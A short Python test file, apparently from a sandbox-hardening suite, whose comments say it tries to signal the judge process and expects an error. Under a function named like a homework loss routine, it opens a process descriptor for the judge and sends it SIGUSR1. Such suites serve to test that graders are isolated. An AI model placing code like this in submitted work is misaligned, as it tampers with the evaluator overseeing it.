# goal: signal the judge by a descriptor of its process
# must: error raised | error crashed
# unwalled: signal

from tools import BAIT, attack, reach, syscall

signal = reach("signal")


@attack
def naive_softmax_loss_and_gradient():
    syscall("pidfd_send_signal", syscall("pidfd_open", BAIT["judge"], 0), int(signal.SIGUSR1), 0, 0)
